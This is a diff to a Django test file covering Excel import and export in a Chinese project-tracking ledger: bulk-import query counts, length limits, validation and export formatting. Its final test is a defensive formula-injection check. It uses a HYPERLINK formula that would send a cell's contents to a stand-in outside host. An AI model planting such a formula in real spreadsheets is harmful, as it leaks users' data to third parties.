@@ -183,12 +183,13 @@ def test_export_has_the_templates_columns_and_imports_again(zhashui, supervisor)
     client.post("/items/import/", {"file": _upload(sheet(*GOOD)), "year": 2023})
     exported = client.get("/items/export.xlsx", {"text": "开工"})
     assert exported["Content-Type"].startswith("application/vnd.openxmlformats")
-    rows = list(load_workbook(io.BytesIO(exported.content)).active.iter_rows(values_only=True))
+    content = exported.getvalue()  # streamed from a temporary file: read once
+    rows = list(load_workbook(io.BytesIO(content)).active.iter_rows(values_only=True))
     assert list(rows[0][: len(excel.COLUMNS)]) == [c.header for c in excel.COLUMNS]
     assert [r[1] for r in rows[1:]] == ["溶洞互通式立交开工"]
     # the exported sheet, codes removed, reads back as the same item
     Item.objects.all().delete()
-    workbook = load_workbook(io.BytesIO(exported.content))
+    workbook = load_workbook(io.BytesIO(content))
     workbook.active["A2"] = None
     out = io.BytesIO()
     workbook.save(out)
@@ -242,7 +243,7 @@ def _imported(client, assign: bool = True) -> list[Item]:
 def _export(client, **filters: str):
     response = client.get("/items/export.xlsx", filters)
     assert response.status_code == 200
-    return load_workbook(io.BytesIO(response.content))
+    return load_workbook(io.BytesIO(response.getvalue()))
 
 
 def _saved(workbook) -> io.BytesIO:
@@ -541,3 +542,145 @@ def test_the_export_link_follows_filters_changed_in_place(zhashui, supervisor):
     text = response.content.decode()
     link = re.search(r'<a [^>]*id="export-link"[^>]*>', text)[0]
     assert 'hx-swap-oob="true"' in link and "status=active" in link and "text=%E6%BA%B6%E6%B4%9E" in link
+
+
+# ---------------------------------------------------------------------------------------------
+# Many rows: checked in memory, written in a few statements; exported row by row
+
+
+def _rows(n: int) -> list[list[object]]:
+    units = ["县发改局", "县财政局", "县文旅局"]
+    return [
+        [
+            "",
+            f"批量导入的事项{number}",
+            units[number % 3],
+            units[(number + 1) % 3],
+            "冯锐",
+            "2023-12-31",
+            "完成招标：8月15日；开工：9月底前",
+            "",
+            "",
+            "每月",
+        ]
+        for number in range(n)
+    ]
+
+
+def test_a_sheet_of_many_rows_takes_as_many_reads_as_a_sheet_of_a_few_and_writes_in_bulk(zhashui, supervisor):
+    def imported(n: int) -> tuple[int, int]:
+        with CaptureQueriesContext(connection) as queries:
+            result = excel.read_sheet(sheet(*_rows(n)), region=zhashui, year=2023)
+            assert result.ok, [str(e) for e in result.errors]
+            outcome = services.items_import(
+                actor=supervisor, region=zhashui, rows=result.rows, assign=False, as_of=date(2023, 7, 25)
+            )
+        assert len(outcome.created) == n
+        inserts = sum(1 for query in queries.captured_queries if query["sql"].startswith("INSERT"))
+        return len(queries.captured_queries) - inserts, inserts
+
+    few_reads, _ = imported(3)
+    reads, inserts = imported(120)
+    assert reads <= few_reads
+    assert inserts <= 12  # 600 rows (items, their units, milestones and events) in batches
+    items = Item.objects.filter(title__startswith="批量导入的事项")
+    assert items.count() == 123 and len({item.code for item in items}) == 123
+    assert ItemEvent.objects.filter(kind=EventKind.IMPORTED).count() == 123
+    last = items.get(title="批量导入的事项119")
+    assert [m.name for m in last.milestones.all()] == ["完成招标", "开工"]
+    assert [u.short_name for u in last.support_units.all()] == ["县发改局"]
+
+
+def test_cells_too_long_or_too_precise_for_the_ledger_are_named(zhashui):
+    row = ["", "长" * 201, "县发改局", "", "", "2023-12-31", "开" * 201 + "：9月底前", "1.23456", "个", ""]
+    result = excel.read_sheet(sheet(row), region=zhashui, year=2023)
+    assert [str(e) for e in result.errors] == [
+        "第2行 B列（事项名称）：最多200个字，这里有201个字",
+        f"第2行 G列（节点）：节点名称最多200个字：“{'开' * 20}……”太长",
+        "第2行 H列（目标值）：“1.23456”超出范围：最多12位整数、4位小数",
+    ]
+
+
+def test_rows_given_to_the_service_are_checked_before_anything_is_written(zhashui, supervisor, fagaiju):
+    good = ItemInput(title="好的事项", year=2023, lead_unit=fagaiju, deadline=date(2023, 12, 31))
+    late_start = ItemInput(
+        title="开始晚于时限",
+        year=2023,
+        lead_unit=fagaiju,
+        planned_start=date(2024, 1, 1),
+        deadline=date(2023, 12, 31),
+    )
+    with pytest.raises(services.ServiceError, match="第2个事项（开始晚于时限）：计划开始晚于完成时限"):
+        services.items_import(
+            actor=supervisor, region=zhashui, rows=[good, late_start], assign=False, as_of=date(2023, 7, 25)
+        )
+    wrong_choice = ItemInput(title="来源不明", year=2023, source="rumour", lead_unit=fagaiju)
+    with pytest.raises(services.ServiceError, match="第1个事项（来源不明）"):
+        services.items_import(
+            actor=supervisor, region=zhashui, rows=[wrong_choice], assign=False, as_of=date(2023, 7, 25)
+        )
+    assert not Item.objects.exists()
+
+
+def test_export_is_written_row_by_row_in_as_many_queries_for_many_items(zhashui, supervisor):
+    client = client_for(supervisor)
+
+    def exported() -> tuple[int, list[tuple[object, ...]], object]:
+        with CaptureQueriesContext(connection) as queries:
+            response = client.get("/items/export.xlsx")
+            content = response.getvalue()
+        workbook = load_workbook(io.BytesIO(content))
+        return len(queries.captured_queries), list(workbook.active.iter_rows(values_only=True)), workbook
+
+    client.post("/items/import/", {"file": _upload(sheet(*_rows(3))), "year": 2023})
+    few, rows, _ = exported()
+    assert len(rows) == 4
+    client.post("/items/import/", {"file": _upload(sheet(*_rows(60))), "year": 2023})
+    many, rows, workbook = exported()
+    assert many <= few and len(rows) == 64
+    sheet_ = workbook.active
+    assert sheet_.freeze_panes == "A2" and sheet_["A1"].font.bold
+    deadline = next(c for c in sheet_[1] if c.value == "完成时限").column_letter
+    assert sheet_[f"{deadline}2"].number_format == "yyyy-mm-dd"
+    assert sheet_[f"{deadline}2"].value == datetime(2023, 12, 31)
+
+
+def test_a_code_taken_while_the_rows_were_checked_refuses_the_whole_import(
+    zhashui, supervisor, fagaiju, monkeypatch
+):
+    from luoshi.items.services import imports
+
+    rows = [
+        ItemInput(title=title, code=code, year=2023, lead_unit=fagaiju, deadline=date(2023, 12, 31))
+        for title, code in (("第一项", "DB-2023-0001"), ("第二项", "DB-2023-0002"))
+    ]
+    checked = imports._items_edit
+
+    def meanwhile(**arguments):
+        ItemFactory(region=zhashui, lead_unit=fagaiju, code="DB-2023-0002", title="别人刚建的")
+        return checked(**arguments)
+
+    monkeypatch.setattr(imports, "_items_edit", meanwhile)
+    with pytest.raises(services.ServiceError, match="编号已被占用"):
+        services.items_import(
+            actor=supervisor, region=zhashui, rows=rows, assign=False, as_of=date(2023, 7, 25)
+        )
+    assert list(Item.objects.values_list("title", flat=True)) == ["别人刚建的"]
+    assert not ItemEvent.objects.exists()
+
+
+def test_a_title_that_looks_like_a_formula_is_exported_as_text_and_imported_back_as_written(
+    zhashui, fagaiju, supervisor
+):
+    """Formula injection: =HYPERLINK(…) typed as a title must not come out of 导出 Excel as a live formula."""
+    from openpyxl import load_workbook
+
+    title = '=HYPERLINK("http://example.com/?"&A1,"点击查看")'
+    ItemFactory(region=zhashui, lead_unit=fagaiju, title=title)
+    response = client_for(supervisor).get("/items/export.xlsx")
+    body = b"".join(response.streaming_content) if response.streaming else response.content
+    sheet = load_workbook(io.BytesIO(body)).worksheets[0]
+    cells = [cell for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
+    assert not any(cell.data_type == "f" for cell in cells)
+    assert any(cell.value == "'" + title for cell in cells)
+    assert excel._text("'" + title) == title
